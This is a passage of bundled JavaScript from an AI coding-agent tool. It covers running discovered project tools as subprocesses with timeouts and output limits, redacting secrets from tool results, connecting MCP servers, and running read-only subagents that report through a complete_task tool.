            child = (0,external_node_child_process_.spawn)(file, args, {
                cwd: program.cwd,
                env: { ...program.env },
                stdio: ['pipe', 'pipe', 'pipe'],
                detached: true,
            });
        }
        catch (error) {
            // Arguments Node refuses outright, such as a NUL byte.
            resolve(notStarted(error));
            return;
        }
        watch(child, options, resolve);
    });
}
function watch(child, options, resolve) {
    let stopped;
    let settled = false;
    const stop = (reason) => {
        if (stopped !== undefined || child.pid === undefined || child.exitCode !== null)
            return;
        stopped = reason;
        void (0,process_group/* killProcessGroup */.$X)(child.pid, { graceMs: KILL_GRACE_MS }).catch(() => undefined);
    };
    const onAbort = () => {
        stop('aborted');
    };
    const timer = setTimeout(() => {
        stop('timeout');
    }, options.timeoutMs);
    const cleanUp = () => {
        clearTimeout(timer);
        options.signal?.removeEventListener('abort', onAbort);
    };
    const streams = [child.stdout, child.stderr].filter((s) => s !== null);
    const closed = Promise.all(streams.map((stream) => new Promise((done) => stream.once('close', done))));
    child.stdout?.on('data', (chunk) => {
        options.stdout.push(chunk);
    });
    child.stderr?.on('data', (chunk) => {
        options.stderr.push(chunk);
    });
    for (const stream of streams)
        stream.on('error', () => undefined);
    // A command that does not read its input may exit before the write completes (EPIPE).
    child.stdin?.on('error', () => undefined);
    child.stdin?.end(options.input ?? '');
    child.on('error', (error) => {
        // Spawning failed (the directory vanished): there is no process to wait for.
        if (child.pid !== undefined || settled)
            return;
        settled = true;
        cleanUp();
        resolve(notStarted(error));
    });
    child.on('exit', (exitCode, signal) => {
        cleanUp();
        void (async () => {
            await Promise.race([closed, delay(DRAIN_MAX_MS)]);
            // Whatever the command left running in its group (`server &`) ends with the call.
            if (child.pid !== undefined) {
                await (0,process_group/* killProcessGroup */.$X)(child.pid, { graceMs: KILL_GRACE_MS }).catch(() => undefined);
            }
            if (settled)
                return;
            settled = true;
            resolve({ exitCode, signal, error: undefined, stopped });
        })();
    });
    if (options.signal?.aborted === true)
        onAbort();
    else
        options.signal?.addEventListener('abort', onAbort, { once: true });
}
function notStarted(error, stopped) {
    return {
        exitCode: null,
        signal: null,
        error: error === undefined
            ? undefined
            : error instanceof Error
                ? error
                : new Error((0,platform_errors/* errorMessage */.gJ)(error)),
        stopped,
    };
}
function delay(ms) {
    return new Promise((done) => {
        setTimeout(done, ms).unref();
    });
}
/** `300 ms`, `2 s`, `10 minutes`: a limit as a person would say it. */
function formatDuration(ms) {
    if (ms >= 60_000 && ms % 60_000 === 0) {
        return `${ms / 60_000} minute${ms === 60_000 ? '' : 's'}`;
    }
    if (ms >= 1000 && ms % 1000 === 0)
        return `${ms / 1000} s`;
    return `${ms} ms`;
}
/** Keeps the first `maxBytes` of a stream and notes whether more came. */
class ByteCollector {
    maxBytes;
    chunks = [];
    kept = 0;
    /** Every byte received, kept or not. */
    total = 0;
    constructor(maxBytes) {
        this.maxBytes = maxBytes;
    }
    get overflowed() {
        return this.total > this.maxBytes;
    }
    push(chunk) {
        this.total += chunk.length;
        const room = this.maxBytes - this.kept;
        if (room <= 0)
            return;
        const part = chunk.length > room ? chunk.subarray(0, room) : chunk;
        this.chunks.push(part);
        this.kept += part.length;
    }
    text() {
        return Buffer.concat(this.chunks).toString('utf8');
    }
}

;// CONCATENATED MODULE: ./src/tools/discovered/discovered-tool.ts



/** A call without its own limit: ten minutes, as for MCP tools and shell commands. */
const DEFAULT_CALL_TIMEOUT_MS = 600_000;
/** Error output is diagnostic; less of it is kept than of the result. */
const MAX_STDERR_CHARS = 10_000;
/** Longest argument summary in a call's one-line description. */
const DESCRIBE_ARGS_CHARS = 120;
class DiscoveredTool {
    name;
    displayName;
    description;
    /** The command may do anything; the policy decides by the tool's name. */
    kind = 'other';
    parametersJsonSchema;
    callCommand;
    options;
    constructor(options) {
        const { declaration } = options;
        this.options = options;
        this.name = declaration.name;
        this.displayName = declaration.name;
        this.description = declaration.description + callNote(options, declaration.name);
        this.parametersJsonSchema = declaration.parametersJsonSchema;
        this.callCommand = options.callCommand;
    }
    declaration() {
        return {
            name: this.name,
            description: this.description,
            parametersJsonSchema: this.parametersJsonSchema,
        };
    }
    /** Arguments must be an object (absent means none); the call command checks the rest. */
    build(args) {
        if (args === undefined || args === null)
            return this.invocation({});
        if (typeof args !== 'object' || Array.isArray(args)) {
            return {
                error: `Invalid parameters for ${this.name}: expected an object of arguments.`,
                type: tool_types/* ToolErrorType */.LC.INVALID_TOOL_PARAMS,
            };
        }
        return this.invocation(args);
    }
    invocation(params) {
        const json = JSON.stringify(params);
        return {
            params,
            describe: () => `${this.name} ${cut(json, DESCRIBE_ARGS_CHARS)}`,
            locations: () => [],
            // What a person would have been asked; in CI the policy answers by the tool's name.
            confirmationDetails: () => Promise.resolve({ type: 'info', title: `Confirm: ${this.displayName}`, prompt: json }),
            execute: (signal) => this.execute(json, signal),
        };
    }
    async execute(input, signal) {
        const timeoutMs = this.options.timeoutMs ?? DEFAULT_CALL_TIMEOUT_MS;
        const stdout = new shell_output/* ShellOutput */.qK({
            maxChars: this.options.maxOutputChars ?? shell_output/* DEFAULT_MAX_OUTPUT_CHARS */.ZR,
        });
        const stderr = new shell_output/* ShellOutput */.qK({ maxChars: MAX_STDERR_CHARS });
        const result = await runToolCommand({
            processes: this.options.processes,
            // The tool name is a positional parameter, never part of the command line.
            command: `${this.callCommand} "$@"`,
            args: [this.name],
            input,
            timeoutMs,
            signal,
            stdout: {
                push: (chunk) => {
                    stdout.push(chunk);
                },
            },
            stderr: {
                push: (chunk) => {
                    stderr.push(chunk, 'stderr');
                },
            },
        });
        stdout.finish();
        stderr.finish();
        const out = stdout.text();
        const err = stderr.text();
        const error = result.error?.message ??
            (result.stopped === 'timeout'
                ? `The call command did not finish within ${formatDuration(timeoutMs)} and was stopped.`
                : result.stopped === 'aborted'
                    ? 'The call was cancelled.'
                    : undefined);
        if (error === undefined && result.exitCode === 0 && result.signal === null && err === '') {
            return { llmContent: out, returnDisplay: out };
        }
        const llmContent = [
            `Stdout: ${out || '(empty)'}`,
            `Stderr: ${err || '(empty)'}`,
            `Error: ${error ?? '(none)'}`,
            `Exit Code: ${result.exitCode ?? '(none)'}`,
            `Signal: ${result.signal ?? '(none)'}`,
        ].join('\n');
        return {
            llmContent,
            returnDisplay: llmContent,
            error: { message: llmContent, type: tool_types/* ToolErrorType */.LC.DISCOVERED_TOOL_EXECUTION_ERROR },
        };
    }
}
/**
 * What the model is told about how the tool runs and what a failure looks like, in the Gemini
 * CLI's words, so a model that knows them reads the results the same way.
 */
function callNote(options, name) {
    return `

This tool was discovered from the project by executing the command \`${options.discoveryCommand}\` on project root.
When called, this tool will execute the command \`${options.callCommand} ${name}\` on project root.
Tool discovery and call commands can be configured in project or user settings.

When called, the tool call command is executed as a subprocess.
On success, tool output is returned as a json string.
Otherwise, the following information is returned:

Stdout: Output on stdout stream. Can be \`(empty)\` or partial.
Stderr: Output on stderr stream. Can be \`(empty)\` or partial.
Error: Error or \`(none)\` if no error was reported for the subprocess.
Exit Code: Exit code or \`(none)\` if terminated by signal.
Signal: Signal number or \`(none)\` if no signal was received.
`;
}
function cut(text, max) {
    return text.length > max ? `${text.slice(0, max - 1)}…` : text;
}

;// CONCATENATED MODULE: ./src/tools/discovered/discover-tools.ts
/**
 * The tools a settings file's `tools.discoveryCommand` declares. The command runs once, before
 * the session, in the workspace root with the tool environment (and sandbox); it prints a JSON
 * array of function declarations. A discovery command that fails — exits non-zero, prints no
 * JSON array, runs too long — fails the run with a `ConfigurationError` that shows the command and
 * the end of its error output: the maintainer asked for these tools, and a session quietly without
 * them would do something else than asked. Single entries the model could not call are left out
 * with a warning naming them.
 */




/** Discovery has this long to print its declarations. */
const DEFAULT_DISCOVERY_TIMEOUT_MS = 120_000;
/** More output than this is not a list of declarations (the Gemini CLI's limit too). */
const MAX_DISCOVERY_OUTPUT_BYTES = 10 * 1024 * 1024;
/** How much of the error output a failure message quotes: its last lines. */
const STDERR_TAIL_CHARS = 2000;
const STDERR_TAIL_LINES = 20;
async function discoverTools(options) {
    const { discoveryCommand, logger } = options;
    const timeoutMs = options.timeoutMs ?? DEFAULT_DISCOVERY_TIMEOUT_MS;
    const failure = (problem, stderr) => {
        const tail = stderr === undefined ? '' : stderrTail(stderr.text());
        return new platform_errors/* ConfigurationError */.j1(`tools.discoveryCommand: the tool discovery command \`${discoveryCommand}\` ${problem}${tail === '' ? '' : `\nIts error output ends with:\n${tail}`}`, options.source === undefined ? undefined : { input: options.source });
    };
    // Output beyond the limit stops the command rather than filling memory.
    const tooMuch = new AbortController();
    const limited = (collector) => ({
        push: (chunk) => {
            collector.push(chunk);
            if (collector.overflowed)
                tooMuch.abort();
        },
    });
    const stdout = new ByteCollector(MAX_DISCOVERY_OUTPUT_BYTES);
    const stderr = new ByteCollector(MAX_DISCOVERY_OUTPUT_BYTES);
    logger.debug(`Discovering tools with ${discoveryCommand}`);
    const result = await runToolCommand({
        processes: options.processes,
        command: discoveryCommand,
        timeoutMs,
        signal: options.signal ? AbortSignal.any([options.signal, tooMuch.signal]) : tooMuch.signal,
        stdout: limited(stdout),
        stderr: limited(stderr),
    });
    if (options.signal?.aborted === true)
        throw new Error('Tool discovery was cancelled.');
    if (stdout.overflowed || stderr.overflowed) {
        throw failure(`printed more than ${MAX_DISCOVERY_OUTPUT_BYTES / (1024 * 1024)} MB and was stopped.`);
    }
    if (result.error !== undefined) {
        throw failure(`could not be started: ${(0,platform_errors/* errorMessage */.gJ)(result.error)}.`);
    }
    if (result.stopped === 'timeout') {
        throw failure(`did not finish within ${formatDuration(timeoutMs)} and was stopped.`, stderr);
    }
    if (result.exitCode !== 0) {
        throw failure(result.signal === null
            ? `failed with exit code ${result.exitCode ?? 'unknown'}.`
            : `was ended by ${result.signal}.`, stderr);
    }
    let parsed;
    const text = stdout.text().trim();
    try {
        parsed = JSON.parse(text);
    }
    catch (error) {
        throw failure(`did not print JSON (${(0,platform_errors/* errorMessage */.gJ)(error)}); expected a JSON array of function declarations on stdout. Its output ${text === '' ? 'was empty' : `starts with: ${text.slice(0, 200)}`}`, stderr);
    }
    let found;
    try {
        found = readDeclarations(parsed);
    }
    catch (error) {
        throw failure(`printed JSON that is not a list of tools: ${(0,platform_errors/* errorMessage */.gJ)(error)}`);
    }
    for (const reason of found.skipped) {
        logger.warning(`Tool discovery (${discoveryCommand}): ${reason}`);
    }
    const stderrText = stderr.text().trim();
    if (stderrText !== '')
        logger.debug(`Tool discovery error output:\n${stderrTail(stderrText)}`);
    if (found.declarations.length === 0) {
        logger.warning(`The tool discovery command \`${discoveryCommand}\` declared no usable tools.`);
        return [];
    }
    const { callCommand } = options;
    if (callCommand === undefined || callCommand.trim() === '') {
        throw new platform_errors/* ConfigurationError */.j1(`tools.callCommand: expected the command that runs the tools \`${discoveryCommand}\` declares (${found.declarations.map((d) => d.name).join(', ')}); it is not set. It gets the tool's name as its argument and the arguments as JSON on stdin.`, options.source === undefined ? undefined : { input: options.source });
    }
    return found.declarations.map((declaration) => new DiscoveredTool({
        declaration,
        discoveryCommand,
        callCommand,
        processes: options.processes,
        ...(options.callTimeoutMs === undefined ? {} : { timeoutMs: options.callTimeoutMs }),
    }));
}
/** The last lines of error output, for a failure message. */
function stderrTail(text) {
    const lines = text.trimEnd().split('\n');
    const tail = lines.slice(-STDERR_TAIL_LINES).join('\n');
    return tail.length > STDERR_TAIL_CHARS ? `…${tail.slice(-STDERR_TAIL_CHARS)}` : tail;
}

;// CONCATENATED MODULE: ./src/tools/redacted-results.ts

/** The same tool, with every text of its results redacted. */
function withRedactedResults(tool, redact) {
    const wrapped = {
        name: tool.name,
        displayName: tool.displayName,
        description: tool.description,
        kind: tool.kind,
        parametersJsonSchema: tool.parametersJsonSchema,
        ...(tool.serverName === undefined ? {} : { serverName: tool.serverName }),
        build(args) {
            const built = tool.build(args);
            return (0,tool_types/* isBuildError */.d1)(built) ? built : redactedInvocation(built, redact);
        },
        declaration: () => tool.declaration(),
    };
    return tool.dispose === undefined
        ? wrapped
        : { ...wrapped, dispose: () => tool.dispose?.() ?? Promise.resolve() };
}
function redactedInvocation(invocation, redact) {
    return {
        params: invocation.params,
        describe: () => invocation.describe(),
        locations: () => invocation.locations(),
        confirmationDetails: (signal) => invocation.confirmationDetails(signal),
        execute: async (signal, onOutput) => redactResult(await invocation.execute(signal, onOutput === undefined
            ? undefined
            : (output) => {
                onOutput(redact(output));
            }), redact),
    };
}
function redactResult(result, redact) {
    return {
        ...result,
        llmContent: redactParts(result.llmContent, redact),
        returnDisplay: redactDisplay(result.returnDisplay, redact),
        ...(result.error === undefined
            ? {}
            : { error: { ...result.error, message: redact(result.error.message) } }),
    };
}
function redactParts(content, redact) {
    if (typeof content === 'string')
        return redact(content);
    if (Array.isArray(content)) {
        return content.map((part) => typeof part === 'string' ? redact(part) : redactPart(part, redact));
    }
    return redactPart(content, redact);
}
function redactPart(part, redact) {
    return part.text === undefined ? part : { ...part, text: redact(part.text) };
}
function redactDisplay(display, redact) {
    return typeof display === 'string' ? redact(display) : display;
}

;// CONCATENATED MODULE: ./src/tools/extension-tools.ts



async function loadExtensionTools(options) {
    const { settings, processes, logger } = options;
    const discovered = settings.discoveryCommand === undefined
        ? []
        : await discoverTools({
            discoveryCommand: settings.discoveryCommand,
            callCommand: settings.callCommand,
            processes,
            logger,
            source: settings.source,
            ...(options.signal ? { signal: options.signal } : {}),
        });
    const clashing = discovered.filter((tool) => options.reservedNames.has(tool.name));
    for (const tool of clashing) {
        logger.warning(`The discovered tool "${tool.name}" has the name of a built-in tool and is left out.`);
    }
    const kept = discovered.filter((tool) => !options.reservedNames.has(tool.name));
    if (kept.length > 0) {
        logger.info(`Discovered ${kept.length} tool(s) with ${settings.discoveryCommand ?? ''}: ${kept.map((tool) => tool.name).join(', ')}.`);
    }
    // What a server was given (its expanded `env` and `headers`) never comes back to the model.
    const { redact } = (0,redaction/* createRedactor */.lY)({ secrets: settings.expandedValues });
    if (Object.keys(settings.mcpServers).length === 0) {
        return {
            tools: kept.map((tool) => withRedactedResults(tool, redact)),
            servers: [],
            close: () => Promise.resolve(),
        };
    }
    // Loaded only when a server is configured: the MCP client and its dependencies would otherwise
    // add to every run's start-up.
    const { connectMcpServers } = await Promise.all(/* import() */[__webpack_require__.e(420), __webpack_require__.e(795)]).then(__webpack_require__.bind(__webpack_require__, 1795));
    const mcp = await connectMcpServers({
        servers: settings.mcpServers,
        ...(settings.mcpAllowed ? { allowed: settings.mcpAllowed } : {}),
        ...(settings.mcpExcluded ? { excluded: settings.mcpExcluded } : {}),
        processes,
        logger,
        reservedNames: new Set([...options.reservedNames, ...kept.map((tool) => tool.name)]),
        ...(options.signal ? { signal: options.signal } : {}),
    });
    for (const server of mcp.servers) {
        if (server.state === 'connected') {
            logger.info(`MCP server ${server.name} (${server.transport ?? 'unknown'}): ${server.tools.length} tool(s)${server.tools.length > 0 ? `: ${server.tools.join(', ')}` : ''}.`);
        }
    }
    return {
        tools: [...kept, ...mcp.tools].map((tool) => withRedactedResults(tool, redact)),
        servers: mcp.servers,
        close: () => mcp.close(),
    };
}

// EXTERNAL MODULE: ./src/tools/tool-selection.ts
var tool_selection = __webpack_require__(87146);
// EXTERNAL MODULE: ./src/tools/workspace.ts + 5 modules
var tools_workspace = __webpack_require__(67692);
// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
var schemas = __webpack_require__(41514);
// EXTERNAL MODULE: ./src/agent/subagents/agent-definition.ts
var agent_definition = __webpack_require__(65457);
;// CONCATENATED MODULE: ./src/agent/subagents/builtin-agents.ts
/**
 * The subagents every run offers. `codebase_investigator` is the Gemini CLI's built-in agent of
 * that name, with its inputs, tools, limits and report shape (packages/core/src/agents/
 * codebase-investigator.ts): read-only, so several investigations run in parallel. The review's
 * own agents are defined where the review is (review/review-agents.ts) and offered in reviews.
 */


const CODEBASE_INVESTIGATOR = 'codebase_investigator';
const report = schemas/* object */.Ikc({
    SummaryOfFindings: schemas/* string */.YjP()
        .min(1)
        .describe('The answer to the objective: what you found, in a few paragraphs of Markdown.'),
    ExplorationTrace: schemas/* array */.YOg(schemas/* string */.YjP())
        .describe('The steps you took, in order, one line each (what you looked at and why).'),
    RelevantLocations: schemas/* array */.YOg(schemas/* object */.Ikc({
        FilePath: schemas/* string */.YjP().min(1),
        Reasoning: schemas/* string */.YjP().min(1).describe('Why this file matters for the objective.'),
        KeySymbols: schemas/* array */.YOg(schemas/* string */.YjP()).describe('Functions, types or settings to look at.'),
    }))
        .describe('The files that matter, most important first.'),
});
const SYSTEM_PROMPT = `You are the **Codebase Investigator**, a subagent whose only job is to build an accurate picture of the code that matters for one objective, and report it. You do not change anything and you do not write implementation code.

# How you investigate
- Start from the objective: list the questions you must answer, then find where the answers live with glob and search_file_content before reading whole files.
- Read the code itself. Follow calls, imports, types and configuration until you understand how the relevant parts fit together; do not stop at the first file that looks right.
- Keep a short checklist of open questions as you go; drop leads that turn out irrelevant.
- Be precise: name files, functions, types and settings exactly as they are in the code. Say what you could not determine rather than guessing.

# Your report
When your questions are answered — or no further reading would help — hand in the report with complete_task: the summary of your findings, the trace of what you explored, and the relevant locations with why each matters.`;
const codebaseInvestigator = (0,agent_definition/* defineAgent */.fO)({
    name: CODEBASE_INVESTIGATOR,
    displayName: 'Codebase Investigator',
    description: 'Investigates the codebase for one objective and reports the relevant files, symbols and how they fit together. Use it for questions that need many files read (architecture, where something is implemented, what a change would affect) before you act; it only reads, and several can run at once.',
    systemPrompt: SYSTEM_PROMPT,
    query: 'Investigate the codebase for this objective and hand in your report:\n<objective>\n${objective}\n</objective>',
    inputSchema: schemas/* object */.Ikc({
        objective: schemas/* string */.YjP()
            .min(1)
            .describe('What to find out, in full: the question, the context you have, and what the answer is for.'),
    }),
    output: {
        name: 'report',
        description: 'The final investigation report.',
        schema: report,
    },
    tools: ['list_directory', 'read_file', 'read_many_files', 'glob', 'search_file_content'],
    maxTurns: 50,
    source: 'built-in',
});
/** Every run's built-in subagents, first in precedence. */
const BUILTIN_AGENTS = [codebaseInvestigator];

;// CONCATENATED MODULE: ./src/agent/subagents/agent-tools.ts

/** The shareable tools `names` select, in the session's order; undefined selects all of them. */
function selectAgentTools(names, shareable) {
    const all = shareable.tools();
    if (names === undefined)
        return { tools: all, unknown: [] };
    const chosen = new Set();
    const unknown = [];
    for (const entry of names) {
        const matches = matching(entry, all, shareable);
        if (matches.length === 0)
            unknown.push(entry);
        for (const tool of matches)
            chosen.add(tool.name);
    }
    return { tools: all.filter((tool) => chosen.has(tool.name)), unknown };
}
function matching(entry, all, shareable) {
    if (entry === '*')
        return [...all];
    if (entry === 'mcp_*')
        return all.filter((tool) => tool.serverName !== undefined);
    const server = /^mcp_(.+)_\*$/.exec(entry)?.[1];
    if (server !== undefined)
        return all.filter((tool) => tool.serverName === server);
    const tool = shareable.get(entry);
    return tool ? [tool] : [];
}
/** A subagent whose tools all only observe is itself a read-only call (it runs in parallel). */
function onlyReads(tools) {
    return tools.every((tool) => (0,tool_types/* isReadOnlyTool */.RS)(tool));
}

// EXTERNAL MODULE: ./src/tools/define-tool.ts
var define_tool = __webpack_require__(96511);
;// CONCATENATED MODULE: ./src/agent/subagents/complete-task.ts
/**
 * `complete_task`: the only way a subagent finishes, as in the Gemini CLI. Its parameter is the
 * agent's output, checked against the output schema when the call is built: output that does not
 * fit goes back to the agent as a failed call saying what is wrong, and the agent carries on
 * until it hands in output that fits (or runs out of turns or time).
 */


const COMPLETE_TASK_TOOL_NAME = 'complete_task';
/** The argument of an agent without an output schema. */
const RESULT_ARGUMENT = 'result';
function createCompleteTask(output) {
    const name = output?.name ?? RESULT_ARGUMENT;
    const schema = output
        ? output.schema.describe(output.description)
        : schemas/* string */.YjP().describe('Your findings or answer, complete: the caller reads nothing else.');
    let accepted;
    const tool = (0,define_tool/* defineTool */.u)({
        name: COMPLETE_TASK_TOOL_NAME,
        displayName: 'CompleteTask',
        description: `Call this tool to hand in your ${output ? 'final answer' : 'findings'} and complete the task. This is the ONLY way to finish: nothing you write outside it reaches the caller. Do not call other tools in the same turn.`,
        // Nothing outside the session changes: it is judged like a read, and may run beside reads.
        kind: 'think',
        parameters: schemas/* object */.Ikc({ [name]: schema }),
        validate(params) {
            const value = params[name];
            if (output === undefined && (typeof value !== 'string' || value.trim() === '')) {
                return {
                    message: `Missing required "${RESULT_ARGUMENT}" argument. You must provide your findings when calling ${COMPLETE_TASK_TOOL_NAME}.`,
                    type: 'invalid_tool_params',
                };
            }
            return null;
        },
        invocation(params) {
            return {
                describe: () => 'Hand in the result',
                locations: () => [],
                confirmationDetails: () => Promise.resolve({
                    type: 'info',
                    title: 'Complete the task',
                    prompt: 'Hand in the result',
                }),
                execute: () => {
                    accepted = { value: params[name] };
                    return Promise.resolve({
                        llmContent: 'Result handed in; the task is complete.',
                        returnDisplay: 'Result handed in',
                    });
                },
            };
        },
    });
    return { tool, output: () => accepted };
}

;// CONCATENATED MODULE: ./src/agent/subagents/agent-executor.ts
/**
 * The agent executor (the design's first level of execution): runs one subagent on its inputs in
 * a session of its own — its system prompt, model, tools, turn and time limits — on the same
 * model transport, scheduler, policy, sandbox and redaction as the main agent, until it hands in
 * output valid against its schema with `complete_task`. Its events go into the run's stream
 * nested under the parent's call; its tokens count against the run's token budget.
 *
 * Never throws for what the agent does: a limit, a refused or failed call, a model error all come
 * back as an `AgentRunResult` the caller (and its model) reads.
 */









/** Rules every subagent gets after its own instructions (the Gemini CLI gives the same). */
const SUBAGENT_RULES = `# Important rules

- You are a subagent: another agent gave you this task and reads only what you hand in. You run non-interactively; nobody can answer questions, so never ask for clarification: choose the most reasonable interpretation and say so in your result.
- A policy decides which tool calls may run. When a call is denied, read the reason, do not retry it, and work with what you may use.
- Use absolute paths inside the workspace.
- When you are done — or cannot get further — you MUST call the \`${COMPLETE_TASK_TOOL_NAME}\` tool with your result. It is the ONLY way to finish: text you write outside it is never read. Do not call other tools in the same turn as \`${COMPLETE_TASK_TOOL_NAME}\`.`;
const REMINDER = `You answered without calling a tool, but your task is only complete when you call \`${COMPLETE_TASK_TOOL_NAME}\`. Call it now with your result (if your work was interrupted, hand in what you have and say so). Do not call other tools.`;
class AgentExecutor {
    runtime;
    constructor(runtime) {
        this.runtime = runtime;
    }
    /** Whether the agent's tools all only observe (then several of its calls run in parallel). */
    isReadOnly(definition) {
        return onlyReads(selectAgentTools(definition.tools, this.runtime.shareable).tools);
    }
    /** Tool names in the definition that match nothing the agent can be given. */
    unknownTools(definition) {
        return selectAgentTools(definition.tools, this.runtime.shareable).unknown;
    }
    async run(definition, inputs, options) {
        const { runtime } = this;
        const shared = runtime.session;
        const now = shared.now ?? Date.now;
        const startedAt = now();
        const sessionId = (0,external_node_crypto_.randomUUID)();
        const failed = (reason, error) => ({
            agent: definition.name,
            sessionId,
            reason,
            text: `Subagent '${definition.name}' failed: ${error}`,
            error,
            turns: 0,
            toolCalls: 0,
            usage: (0,events/* emptyUsage */.ly)(),
            durationMs: now() - startedAt,
        });
        const model = this.model(definition);
        // The Gemini CLI's template values beside the inputs (`${today}`, `${activeModel}`).
        const values = {
            today: new Date(startedAt).toISOString().slice(0, 10),
            activeModel: model.model,
            ...inputs,
        };
        let query;
        try {
            query = definition.buildQuery
                ? definition.buildQuery(inputs)
                : (0,agent_definition/* fillTemplate */.ou)(definition.query ?? (0,agent_definition/* defaultQuery */.uJ)(inputs), values);
        }
        catch (error) {
            // What code builds from the inputs may refuse them (a group that does not exist).
            return failed('internal_error', (0,platform_errors/* errorMessage */.gJ)(error));
        }
        const completion = createCompleteTask(definition.output);
        const selection = selectAgentTools(definition.tools, runtime.shareable);
        const chosen = new Set(selection.tools.map((tool) => tool.name));
        const registry = runtime.shareable.subset((tool) => chosen.has(tool.name));
        registry.register(completion.tool);
        const session = new AgentSession({
            ...shared,
            ...model,
            sessionId,
            registry,
            confirmer: asSubagent(shared.confirmer, definition.name),
            budgets: {
                maxTurns: definition.maxTurns,
                timeoutMs: definition.timeoutMs,
                ...runtime.budgets,
            },
            spend: runtime.spend,
            completion: {
                isComplete: () => completion.output() !== undefined,
                reminder: REMINDER,
            },
            corePrompt: `${(0,agent_definition/* fillTemplate */.ou)(definition.systemPrompt, values).trim()}\n\n${SUBAGENT_RULES}`,
            generationConfig: generationOf(definition),
            onEvent: (event) => {
                runtime.emitNested(options.parentCallId, definition.name, event);
            },
        });
        const result = await session.run(query, options.signal ? { signal: options.signal } : {});
        const accepted = completion.output();
        const common = {
            agent: definition.name,
            sessionId,
            turns: result.turns,
            toolCalls: result.toolCalls,
            usage: result.usage,
            durationMs: result.durationMs,
        };
        if (result.reason === 'completed' && accepted !== undefined) {
            return {
                ...common,
                reason: 'completed',
                output: accepted.value,
                text: outputText(definition, accepted.value, inputs),
            };
        }
        const error = stopMessage(definition, result.reason, result.error);
        return {
            ...common,
            reason: result.reason === 'completed' ? 'no_complete_task' : result.reason,
            text: `Subagent '${definition.name}' stopped without a result: ${error}`,
            error,
        };
    }
    /** `inherit` is the main session's model (and fallback); anything else through the table. */
    model(definition) {
        const shared = this.runtime.session;
        if (definition.model === agent_definition/* INHERIT_MODEL */.I_) {
            return {
                model: shared.model,
                ...(shared.modelChoice ? { modelChoice: shared.modelChoice } : {}),
                ...(shared.fallbackModel ? { fallbackModel: shared.fallbackModel } : {}),
            };
        }
        const { name, alias } = (0,model_table/* resolveModelAlias */.kV)(definition.model);
        const choice = {
            name,
            ...(alias === undefined ? {} : { alias }),
            setBy: `the model of agent ${definition.name} (${definition.source})`,
            howToChoose: `the model field of agent ${definition.name} (${definition.source}), or model: inherit`,
        };
        return {
            model: name,
            modelChoice: choice,
            ...(shared.fallbackModel ? { fallbackModel: shared.fallbackModel } : {}),
        };
    }
}
/** Every question the subagent's calls raise names it, for the policy's `subagent` rules. */
function asSubagent(confirmer, name) {
    return {
        confirm: (question, signal) => confirmer.confirm({ ...question, subagent: name }, signal),
    };
}
function generationOf(definition) {
    return {
        ...(definition.temperature === undefined ? {} : { temperature: definition.temperature }),
        ...(definition.topP === undefined ? {} : { topP: definition.topP }),
    };
}
function outputText(definition, value, inputs) {
    if (definition.onOutput)
        return definition.onOutput(value, inputs);
    return typeof value === 'string' ? value : JSON.stringify(value, null, 2);
}
function stopMessage(definition, reason, error) {
    switch (reason) {
        case 'max_turns':
            return `it reached its limit of ${definition.maxTurns} turns (max_turns).`;
        case 'timeout':
            return `it reached its time limit of ${(0,budgets/* formatDuration */.a3)(definition.timeoutMs)}.`;
        case 'completed':
        case 'no_complete_task':
            return 'it stopped calling tools without handing in its result with complete_task.';
        default:
            return error ?? reason;
    }
}

// EXTERNAL MODULE: ./src/agent/subagents/invoke-agent.ts
var invoke_agent = __webpack_require__(71340);
;// CONCATENATED MODULE: ./src/agent/subagents/subagent-tool.ts
/**
 * A subagent offered to the main agent as a tool of its own, as the Gemini CLI's documentation
 * describes it: the agent's name, description and input schema are the tool's. Calling it runs
 * the agent with the executor; what it hands in (or why it stopped, and what it cost) is the
 * call's result. The tool's kind is `agent`; it is read-only — several calls of one turn run in
 * parallel — when every tool the agent may use is.
 */


function createSubagentTool(definition, executor) {
    const label = definition.displayName ?? definition.name;
    const tool = (0,define_tool/* defineTool */.u)({
        name: definition.name,
        displayName: label,
        description: definition.description,
        kind: 'agent',
        parameters: definition.inputSchema,
        invocation(params) {
            const about = gist(params);
            const description = about === '' ? label : `${label}: ${about}`;
            return {
                describe: () => description,
                locations: () => [],
                confirmationDetails: () => Promise.resolve({
                    type: 'info',
                    title: `Run the subagent ${definition.name}`,
                    prompt: description,
                }),
                async execute(signal, _onOutput, call) {
                    const result = await executor.run(definition, params, {
                        signal,
                        // Without a caller's id (a direct call in a test) its events still nest somewhere.
                        parentCallId: call?.callId ?? `${definition.name}-call`,
                    });
                    const display = `${result.reason === 'completed' ? 'Result handed in' : `Stopped: ${result.error ?? result.reason}`} (${costLine(result)})`;
                    if (result.reason === 'completed') {
                        return {
                            llmContent: `Subagent '${definition.name}' finished and handed in its result:\n\n${result.text}`,
                            returnDisplay: display,
                        };
                    }
                    return {
                        llmContent: result.text,
                        returnDisplay: display,
                        error: { message: result.text, type: 'execution_failed' },
                    };
                },
            };
        },
    });
    return { ...tool, readOnly: executor.isReadOnly(definition) };
}
/** `3 turns · 5 tool calls · 12,345 tokens · 41s`: what a subagent's run cost. */
function costLine(result) {
    const count = (n, noun) => `${n.toLocaleString('en-US')} ${noun}${n === 1 ? '' : 's'}`;
    return [
        count(result.turns, 'turn'),
        count(result.toolCalls, 'tool call'),
        count(result.usage.total_tokens, 'token'),
        (0,budgets/* formatDuration */.a3)(result.durationMs),
    ].join(' · ');
}
/** What the call is about, on one line: its first text input, or its inputs (`group 2`). */
function gist(params) {
    const text = Object.values(params).find((value) => typeof value === 'string');
    const value = text ??
        Object.entries(params)
            .map(([key, input]) => `${key} ${JSON.stringify(input)}`)
            .join(', ');
    const line = value.replace(/\s+/g, ' ').trim();
    return line.length > 100 ? `${line.slice(0, 99)}…` : line;
}

;// CONCATENATED MODULE: ./src/agent/subagents/register-subagents.ts



function registerSubagents(registry, definitions, options) {
    const { logger } = options;
    const executor = new AgentExecutor(options.runtime);
    const chosen = new Map();
    for (const definition of definitions) {
        const first = chosen.get(definition.name);
        if (first !== undefined) {
            logger.warning(`Duplicate agent name '${definition.name}' (${definition.source}): the definition from ${first.source} is used. Rename one of the agents.`);
            continue;
        }
        if (registry.get(definition.name) !== undefined || definition.name === invoke_agent/* INVOKE_AGENT_TOOL_NAME */.q) {
            logger.warning(`The agent '${definition.name}' (${definition.source}) is not offered: a tool of that name exists. Rename the agent.`);
            continue;
        }
        chosen.set(definition.name, definition);
    }
    const byName = new Map();
    for (const definition of chosen.values()) {
